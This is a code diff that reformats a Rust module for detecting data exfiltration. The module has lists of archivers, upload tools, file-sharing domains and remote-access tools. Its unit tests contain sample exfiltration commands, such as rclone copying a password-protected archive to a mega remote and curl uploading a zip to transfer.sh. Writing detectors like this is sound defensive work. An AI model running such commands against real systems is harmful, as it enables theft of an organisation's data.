@@ -10,11 +10,28 @@ use crate::model::{DataStoreAsset, ExposureActivity};
 use crate::names::{basename, host_key, wildcard};
 
 const ARCHIVERS: &[&str] = &[
-    "rar.exe", "winrar.exe", "7z.exe", "7za.exe", "7zr.exe", "7zg.exe", "zip.exe", "makecab.exe",
+    "rar.exe",
+    "winrar.exe",
+    "7z.exe",
+    "7za.exe",
+    "7zr.exe",
+    "7zg.exe",
+    "zip.exe",
+    "makecab.exe",
 ];
 const UPLOADERS: &[&str] = &[
-    "rclone.exe", "megacmd.exe", "megacmdclient.exe", "megasync.exe", "mega-put.exe", "winscp.exe",
-    "winscp.com", "pscp.exe", "restic.exe", "filezilla.exe", "ftp.exe", "exmatter.exe",
+    "rclone.exe",
+    "megacmd.exe",
+    "megacmdclient.exe",
+    "megasync.exe",
+    "mega-put.exe",
+    "winscp.exe",
+    "winscp.com",
+    "pscp.exe",
+    "restic.exe",
+    "filezilla.exe",
+    "ftp.exe",
+    "exmatter.exe",
 ];
 const COPIERS: &[&str] = &["robocopy.exe", "xcopy.exe"];
 
@@ -32,7 +49,9 @@ pub(crate) fn tool_kind(base: &str, original: Option<&str>, cmd: &str) -> Option
         return Some(ExposureActivity::Copy);
     }
     let lc = cmd.to_ascii_lowercase();
-    if base == "curl.exe" && (lc.contains(" -t ") || lc.contains("--upload-file") || lc.contains(" -f ")) {
+    if base == "curl.exe"
+        && (lc.contains(" -t ") || lc.contains("--upload-file") || lc.contains(" -f "))
+    {
         return Some(ExposureActivity::Upload);
     }
     if (base == "powershell.exe" || base == "pwsh.exe") && lc.contains("compress-archive") {
@@ -47,7 +66,11 @@ pub(crate) fn destinations(cmd: &str) -> Vec<String> {
     let mut out = Vec::new();
     for tok in split_args(cmd) {
         let t = tok.trim_matches('"');
-        if let Some(rest) = t.strip_prefix("https://").or_else(|| t.strip_prefix("http://")).or_else(|| t.strip_prefix("ftp://")) {
+        if let Some(rest) = t
+            .strip_prefix("https://")
+            .or_else(|| t.strip_prefix("http://"))
+            .or_else(|| t.strip_prefix("ftp://"))
+        {
             let host = rest.split(['/', ':']).next().unwrap_or(rest);
             if !host.is_empty() {
                 out.push(host.to_ascii_lowercase());
@@ -59,7 +82,11 @@ pub(crate) fn destinations(cmd: &str) -> Vec<String> {
         }
         if let Some((remote, _)) = t.split_once(':') {
             // `C:\...` is a drive, `mega:` a remote.
-            if remote.len() > 1 && remote.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
+            if remote.len() > 1
+                && remote
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
+            {
                 out.push(t.to_string());
             }
         }
@@ -95,7 +122,11 @@ pub(crate) fn archive_names(cmd: &str) -> Vec<String> {
     split_args(cmd)
         .into_iter()
         .map(|t| basename(&t))
-        .filter(|b| [".rar", ".7z", ".zip", ".tar", ".gz", ".cab"].iter().any(|x| b.ends_with(x)))
+        .filter(|b| {
+            [".rar", ".7z", ".zip", ".tar", ".gz", ".cab"]
+                .iter()
+                .any(|x| b.ends_with(x))
+        })
         .collect()
 }
 
@@ -107,7 +138,11 @@ pub(crate) fn store_on_host(store: &DataStoreAsset, host: &str) -> bool {
 
 /// Data stores a command line run on `host` refers to: by local path on
 /// the store's host, or by UNC path `\\host\share` from anywhere.
-pub(crate) fn stores_in<'a>(cmd: &str, host: &str, stores: &'a [DataStoreAsset]) -> Vec<&'a DataStoreAsset> {
+pub(crate) fn stores_in<'a>(
+    cmd: &str,
+    host: &str,
+    stores: &'a [DataStoreAsset],
+) -> Vec<&'a DataStoreAsset> {
     let lc = cmd.to_lowercase();
     stores
         .iter()
@@ -140,28 +175,66 @@ pub(crate) fn stores_in<'a>(cmd: &str, host: &str, stores: &'a [DataStoreAsset])
 /// Domains of file-sharing services used for exfiltration.
 pub(crate) fn file_sharing_domain(d: &str) -> bool {
     const DOMAINS: &[&str] = &[
-        "mega.nz", "mega.co.nz", "mega.io", "megaupload.com", "dropbox.com", "dropboxusercontent.com",
-        "transfer.sh", "wetransfer.com", "anonfiles.com", "gofile.io", "file.io", "sendspace.com",
-        "pcloud.com", "filemail.com", "temp.sh", "ufile.io", "put.io",
+        "mega.nz",
+        "mega.co.nz",
+        "mega.io",
+        "megaupload.com",
+        "dropbox.com",
+        "dropboxusercontent.com",
+        "transfer.sh",
+        "wetransfer.com",
+        "anonfiles.com",
+        "gofile.io",
+        "file.io",
+        "sendspace.com",
+        "pcloud.com",
+        "filemail.com",
+        "temp.sh",
+        "ufile.io",
+        "put.io",
     ];
-    DOMAINS.iter().any(|x| d == *x || d.ends_with(&format!(".{x}")))
+    DOMAINS
+        .iter()
+        .any(|x| d == *x || d.ends_with(&format!(".{x}")))
 }
 
 /// Domains of remote-access tools (persistence by legitimate software).
 pub(crate) fn remote_access_domain(d: &str) -> bool {
     const DOMAINS: &[&str] = &[
-        "anydesk.com", "teamviewer.com", "screenconnect.com", "splashtop.com", "rustdesk.com",
-        "atera.com", "ngrok.io", "ngrok.com", "logmein.com", "remoteutilities.com", "connectwise.com",
+        "anydesk.com",
+        "teamviewer.com",
+        "screenconnect.com",
+        "splashtop.com",
+        "rustdesk.com",
+        "atera.com",
+        "ngrok.io",
+        "ngrok.com",
+        "logmein.com",
+        "remoteutilities.com",
+        "connectwise.com",
     ];
-    DOMAINS.iter().any(|x| d == *x || d.ends_with(&format!(".{x}")))
+    DOMAINS
+        .iter()
+        .any(|x| d == *x || d.ends_with(&format!(".{x}")))
 }
 
 /// Remote-access tool names in a service name or image path.
 pub(crate) fn remote_access_name(s: &str) -> bool {
     let l = s.to_ascii_lowercase();
-    ["anydesk", "teamviewer", "screenconnect", "splashtop", "rustdesk", "atera", "ngrok", "meshagent", "remoteutilities", "logmein"]
-        .iter()
-        .any(|x| l.contains(x))
+    [
+        "anydesk",
+        "teamviewer",
+        "screenconnect",
+        "splashtop",
+        "rustdesk",
+        "atera",
+        "ngrok",
+        "meshagent",
+        "remoteutilities",
+        "logmein",
+    ]
+    .iter()
+    .any(|x| l.contains(x))
 }
 
 #[cfg(test)]
@@ -180,15 +253,27 @@ mod tests {
 
     #[test]
     fn tools_and_destinations() {
-        assert_eq!(tool_kind("rar.exe", None, ""), Some(ExposureActivity::Archive));
-        assert_eq!(tool_kind("svc.exe", Some("rclone.exe"), ""), Some(ExposureActivity::Upload));
+        assert_eq!(
+            tool_kind("rar.exe", None, ""),
+            Some(ExposureActivity::Archive)
+        );
+        assert_eq!(
+            tool_kind("svc.exe", Some("rclone.exe"), ""),
+            Some(ExposureActivity::Upload)
+        );
         assert_eq!(tool_kind("notepad.exe", None, "x"), None);
         assert_eq!(
             destinations("rclone.exe copy C:\\PerfLogs\\cias.rar mega:depot -q --transfers 8"),
             vec!["mega:depot".to_string()]
         );
-        assert_eq!(destinations("curl.exe -T a.zip https://transfer.sh/x"), vec!["transfer.sh".to_string()]);
-        assert_eq!(archive_names("rar.exe a -hpX C:\\PerfLogs\\cias.rar D:\\Partages\\CIAS"), vec!["cias.rar"]);
+        assert_eq!(
+            destinations("curl.exe -T a.zip https://transfer.sh/x"),
+            vec!["transfer.sh".to_string()]
+        );
+        assert_eq!(
+            archive_names("rar.exe a -hpX C:\\PerfLogs\\cias.rar D:\\Partages\\CIAS"),
+            vec!["cias.rar"]
+        );
     }
 
     #[test]
